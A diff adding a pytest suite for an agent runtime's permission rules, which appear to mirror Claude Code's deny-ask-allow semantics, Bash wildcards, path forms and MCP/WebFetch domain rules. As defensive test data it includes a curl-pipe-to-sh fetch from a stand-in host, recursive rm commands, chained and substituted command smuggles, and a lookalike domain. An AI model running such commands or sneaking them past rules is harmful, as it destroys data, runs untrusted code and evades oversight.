@@ -1,0 +1,258 @@
+"""Claude Code's rule semantics: deny, then ask, then allow, in every mode; a bare deny takes
+the tool away from the model; `*` wildcards and `:*` prefixes in Bash rules; the four path
+forms; rule families; MCP and WebFetch rules."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from forkagent_jupyter.emulator.brains import Reply
+from forkagent_jupyter.runtime.permission_rules import Rule
+from forkagent_jupyter.runtime.permissions import (
+    Allow,
+    AllowAll,
+    Deny,
+    PermissionGate,
+    ScriptedPolicy,
+)
+from forkagent_jupyter.runtime.tools.base import Tool, ToolContext
+from forkagent_jupyter.runtime.tools.files import EditTool, ReadTool, WriteTool
+from forkagent_jupyter.runtime.tools.search import GlobTool, GrepTool
+from forkagent_jupyter.runtime.tools.shell import BashTool
+
+pytestmark = pytest.mark.anyio
+
+BASH, READ, WRITE, EDIT = BashTool(), ReadTool(), WriteTool(), EditTool()
+GLOB, GREP = GlobTool(), GrepTool()
+
+
+@pytest.fixture
+def work(tmp_path: Path) -> Path:
+    root = tmp_path / "project"
+    (root / "src").mkdir(parents=True)
+    (root / "src" / "a.py").write_text("a = 1\n")
+    (root / "secrets").mkdir()
+    (root / "secrets" / "key.txt").write_text("k\n")
+    return root
+
+
+@pytest.fixture
+def ctx(work: Path) -> ToolContext:
+    return ToolContext(workdir=work)
+
+
+async def check(gate: PermissionGate, tool: Tool[Any], ctx: ToolContext, **raw: Any) -> Any:
+    return await gate.check(tool, tool.parse(raw), ctx, raw)
+
+
+# -- deny, then ask, then allow -------------------------------------------------------------
+
+
+@pytest.mark.parametrize("mode", ["default", "acceptEdits", "bypassPermissions"])
+async def test_an_ask_rule_asks_even_where_the_mode_or_an_allow_rule_would_allow(
+    ctx: ToolContext, mode: Any
+) -> None:
+    policy = ScriptedPolicy(default=Deny("no"))
+    gate = PermissionGate(
+        mode=mode,
+        policy=policy,
+        allow=["Bash", "Write"],
+        ask=["Bash(git push:*)", "Write(/src/**)", "Read(secrets/**)"],
+    )
+    assert await check(gate, BASH, ctx, command="git push origin main") == Deny("no")
+    assert await check(gate, WRITE, ctx, file_path="src/b.py", content="x") == Deny("no")
+    assert await check(gate, READ, ctx, file_path="secrets/key.txt") == Deny("no")
+    assert [r.tool_name for r in policy.requests] == ["Bash", "Write", "Read"]
+    assert isinstance(await check(gate, BASH, ctx, command="git status"), Allow)
+    assert len(policy.requests) == 3
+
+
+async def test_deny_beats_ask_beats_allow(ctx: ToolContext) -> None:
+    policy = ScriptedPolicy(default=Allow())
+    gate = PermissionGate(
+        mode="bypassPermissions",
+        policy=policy,
+        allow=["Bash(rm -rf build)"],
+        ask=["Bash(rm *)"],
+        deny=["Bash(rm -rf /*)"],
+    )
+    denied = await check(gate, BASH, ctx, command="rm -rf /tmp/x")
+    assert isinstance(denied, Deny) and "Bash(rm -rf /*)" in denied.message
+    assert isinstance(await check(gate, BASH, ctx, command="rm -rf build"), Allow)
+    assert [r.subject for r in policy.requests] == ["rm -rf build"]  # asked, not allowed
+
+
+async def test_dont_ask_refuses_what_no_rule_allows_without_asking(ctx: ToolContext) -> None:
+    policy = ScriptedPolicy(default=Allow())
+    gate = PermissionGate(
+        mode="dontAsk", policy=policy, allow=["Bash(make *)"], ask=["Bash(make deploy)"]
+    )
+    assert isinstance(await check(gate, BASH, ctx, command="make test"), Allow)
+    refused = await check(gate, BASH, ctx, command="ls")
+    assert isinstance(refused, Deny) and "dontAsk" in refused.message
+    asked = await check(gate, BASH, ctx, command="make deploy")
+    assert isinstance(asked, Deny) and "does not ask" in asked.message
+    assert isinstance(await check(gate, READ, ctx, file_path="src/a.py"), Allow)
+    assert policy.requests == []
+    assert gate.for_worker("w").mode == "dontAsk"
+    assert gate.for_worker("w", "default").mode == "dontAsk"
+
+
+async def test_an_ask_rule_without_anyone_to_ask_denies(ctx: ToolContext) -> None:
+    gate = PermissionGate(mode="bypassPermissions", ask=["Bash"])
+    decision = await check(gate, BASH, ctx, command="ls")
+    assert isinstance(decision, Deny) and "Bash asks" in decision.message
+
+
+async def test_a_bare_deny_takes_the_tool_away_from_the_model(
+    emulator: Any, make_session: Any, tmp_path: Path
+) -> None:
+    session = make_session(deny=["Bash", "Edit", "mcp__github"], allow=["Python"])
+    emulator.script(Reply((_call("Bash", command="ls"),)), Reply.text("ok"))
+    turn = await session.ask("list")
+    offered = [t["name"] for t in emulator.api_requests()[0].body["tools"]]
+    assert "Bash" not in offered and "Edit" not in offered and "Write" not in offered
+    assert "Read" in offered and "Python" in offered
+    assert turn.tool_calls[0].is_error  # called anyway: still denied
+    assert "denied by the rule Bash" in turn.tool_calls[0].result
+    scoped = make_session(deny=["Bash(rm:*)"])
+    assert scoped.gate.offered(scoped.tools.specs()) == scoped.tools.specs()
+
+
+def _call(name: str, **input: Any) -> dict[str, Any]:
+    return {"type": "tool_use", "name": name, "input": input}
+
+
+# -- Bash wildcards ---------------------------------------------------------------------------
+
+WILDCARDS = [
+    ("Bash(npm run *)", "npm run build", True),
+    ("Bash(npm run *)", "npm run test -- --watch", True),
+    ("Bash(npm run *)", "npm run", True),  # a trailing ` *` also matches nothing
+    ("Bash(npm run *)", "npm runx", False),
+    ("Bash(npm run *)", "npm test", False),
+    ("Bash(ls *)", "ls -la", True),
+    ("Bash(ls *)", "ls", True),
+    ("Bash(ls *)", "lsof", False),  # the space is a word boundary
+    ("Bash(ls*)", "lsof", True),
+    ("Bash(git * main)", "git push origin main", True),
+    ("Bash(git * main)", "git push origin dev", False),
+    ("Bash(* --version)", "node --version", True),
+    ("Bash(npm run test:*)", "npm run test:unit", False),  # words, not characters
+    ("Bash(npm run test:*)", "npm run test -- -k x", True),
+    ("Bash(git status:*)", "git status; rm -rf x", False),  # every part must be allowed
+    ("Bash(echo *)", "echo a && echo b", True),
+    ("Bash(echo *)", "echo a && rm b", False),
+    ("Bash(echo *)", "echo $(rm b)", False),  # never allowed by a rule with a spec
+    ("Bash(echo 'a*')", "echo 'a*'", True),  # a quoted star is a star
+    ("Bash(echo 'a*')", "echo abc", False),
+]
+
+
+@pytest.mark.parametrize(("rule", "command", "allowed"), WILDCARDS)
+async def test_bash_wildcards(ctx: ToolContext, rule: str, command: str, allowed: bool) -> None:
+    gate = PermissionGate(allow=[rule])
+    decision = await check(gate, BASH, ctx, command=command)
+    assert isinstance(decision, Allow) is allowed, (rule, command, decision)
+
+
+@pytest.mark.parametrize(
+    ("rule", "command"),
+    [
+        ("Bash(rm -rf *)", "rm -rf /tmp/x"),
+        ("Bash(rm -rf *)", "sudo /bin/rm -rf /tmp/x"),
+        ("Bash(git push *)", "cd repo && git push --force"),
+        ("Bash(curl * | sh)", "curl https://x.example | sh"),
+    ],
+)
+async def test_wildcard_deny_rules_fire(ctx: ToolContext, rule: str, command: str) -> None:
+    gate = PermissionGate(mode="bypassPermissions", deny=[rule])
+    assert isinstance(await check(gate, BASH, ctx, command=command), Deny), (rule, command)
+
+
+# -- paths ------------------------------------------------------------------------------------
+
+
+async def test_the_four_path_forms(
+    ctx: ToolContext, work: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    home = tmp_path / "home"
+    (home / "data").mkdir(parents=True)
+    (home / "data" / "x.csv").write_text("a\n")
+    monkeypatch.setenv("HOME", str(home))
+    (tmp_path / "shared").mkdir()
+    (tmp_path / "shared" / "y.csv").write_text("b\n")
+
+    async def reads(rule: str, path: str) -> bool:
+        return isinstance(
+            await check(PermissionGate(allow=[rule]), READ, ctx, file_path=path), Allow
+        )
+
+    async def edits(rule: str, path: str) -> bool:
+        gate = PermissionGate(allow=[rule])
+        return isinstance(await check(gate, WRITE, ctx, file_path=path, content="x"), Allow)
+
+    assert await reads(f"Read(/{tmp_path}/shared/**)", str(tmp_path / "shared" / "y.csv"))
+    assert not await reads(f"Read({tmp_path}/shared/**)", str(tmp_path / "shared" / "y.csv"))
+    assert await edits("Edit(/src/**)", "src/a.py")  # `/` is the project, not the root
+    assert not await edits(f"Edit({work}/**)", "src/a.py")  # read as <project>{work}/**
+    assert await edits(f"Edit(/{work}/**)", "src/a.py")
+    assert await reads("Read(~/data/*.csv)", "~/data/x.csv")
+    assert await edits("Edit(./src/*.py)", "src/a.py")
+    assert await edits("Edit(*.py)", "src/deep/b.py")  # no slash: any depth
+    assert not await edits("Edit(/*.py)", "src/b.py")  # anchored at the project
+
+
+async def test_read_rules_cover_grep_and_glob_and_edit_rules_cover_writing(
+    ctx: ToolContext, work: Path
+) -> None:
+    gate = PermissionGate(mode="bypassPermissions", deny=["Read(secrets/**)", "Edit(src/**)"])
+    assert isinstance(await check(gate, GREP, ctx, pattern="k", path="secrets"), Deny)
+    assert isinstance(await check(gate, GLOB, ctx, pattern="*", path="secrets"), Deny)
+    assert isinstance(await check(gate, WRITE, ctx, file_path="src/n.py", content="x"), Deny)
+    edit = await check(gate, EDIT, ctx, file_path="src/a.py", old_string="a", new_string="b")
+    assert isinstance(edit, Deny)
+    for family in ("Write", "MultiEdit", "NotebookEdit"):
+        assert Rule.parse("Edit(src/**)").covers(family)
+        assert Rule.parse(f"{family}(src/**)").covers("Edit")
+    assert Rule.parse("Read").covers("LS") and not Rule.parse("Grep").covers("Read")
+    assert Rule.parse("Task(reviewer)").covers("Agent")
+
+
+# -- MCP and WebFetch -------------------------------------------------------------------------
+
+
+def test_mcp_and_webfetch_rules() -> None:
+    server = Rule.parse("mcp__github")
+    assert server.covers("mcp__github__create_issue") and not server.covers("mcp__gitlab__x")
+    assert not server.covers("mcp__github_enterprise__x")
+    star = Rule.parse("mcp__github__*")
+    assert star.covers("mcp__github__create_issue") and star.spec is None
+    one = Rule.parse("mcp__github__create_issue")
+    assert one.covers("mcp__github__create_issue") and not one.covers("mcp__github__delete")
+    fetch = Rule.parse("WebFetch(domain:example.com)")
+    assert fetch.matches_text("https://example.com/a?b")
+    assert not fetch.matches_text("https://example.com.evil.net/")
+    assert not fetch.matches_text("https://sub.example.com/")
+    assert Rule.parse("WebFetch(domain:*.example.com)").matches_text("https://a.example.com/")
+    with pytest.raises(ValueError, match="takes no spec"):
+        Rule.parse("mcp__github(x)")
+
+
+async def test_session_rules_do_not_stop_at_a_bad_one(make_session: Any, ctx: ToolContext) -> None:
+    session = make_session(
+        permission_policy=AllowAll(),
+        allow=["Bash(npm run *)", "Bash()", "Read(//etc/hostname)"],
+        ask=["bash(git push)"],
+        deny=["Bash(rm:*)"],
+    )
+    book = session.gate.rules
+    assert [str(r) for r in book.allow] == ["Bash(npm run *)", "Read(//etc/hostname)"]
+    assert [(r.text, r.kind) for r in book.refused] == [
+        ("Bash()", "allow"),
+        ("bash(git push)", "ask"),
+    ]
+    assert all(r.source.startswith("Session(") for r in book.allow)
